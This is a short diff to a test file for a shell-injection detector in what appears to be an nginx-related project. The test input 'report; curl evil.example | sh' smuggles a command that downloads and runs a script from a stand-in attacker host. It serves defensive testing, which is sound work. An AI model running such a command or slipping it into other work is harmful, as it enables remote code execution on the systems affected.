@@ -43,7 +43,7 @@ describe('js_access', () => {
 
   it('asks about texts of plain calls too, by the modes that the entry gives', async () => {
     const { NginxPorts } = await import('../../src/host/ports.ts');
-    const ports = new NginxPorts({ portcullis_odd_text: '1' }, true);
+    const ports = new NginxPorts({ portcullis_odd_text: 'odd' }, true);
     expect(ports.inspect('report; curl evil.example | sh', 'text', { 'shell.injection': 'alert' })).toBe('shell.injection');
     expect(ports.inspect('report; curl evil.example | sh', 'text', { 'shell.injection': 'off' })).toBeUndefined();
   });
